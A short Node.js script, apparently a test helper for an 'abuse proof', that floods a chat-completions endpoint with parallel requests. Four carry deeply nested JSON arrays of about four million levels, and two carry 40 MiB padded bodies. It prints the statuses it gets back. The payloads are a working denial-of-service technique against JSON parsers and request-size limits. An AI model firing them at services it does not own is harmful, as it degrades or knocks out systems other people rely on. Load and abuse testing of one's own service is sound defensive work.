// Sends the nested-JSON and oversized bodies of the abuse proof from its own process, so building
// and uploading 112 MiB never stalls the process that measures the other client.
// Usage: node body-flood.mjs URL KEY; prints one JSON line: the statuses (0: connection closed).
const [url, key] = process.argv.slice(2);
const MiB = 1024 * 1024;
const depth = 4 * MiB;
const nested = Buffer.from(`{"model":"chain:other","messages":${'['.repeat(depth)}${']'.repeat(depth)}}`);
const big = Buffer.from(`{"model":"chain:other","pad":"${'x'.repeat(40 * MiB)}"}`);
const post = (body) =>
  fetch(`${url}/v1/chat/completions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${key}`, 'content-type': 'application/json' },
    body,
  }).then(
    async (r) => ({ status: r.status, text: await r.text() }),
    () => ({ status: 0, text: '' }),
  );
const results = await Promise.all([nested, nested, nested, nested, big, big].map(post));
process.stdout.write(`${JSON.stringify(results)}\n`);
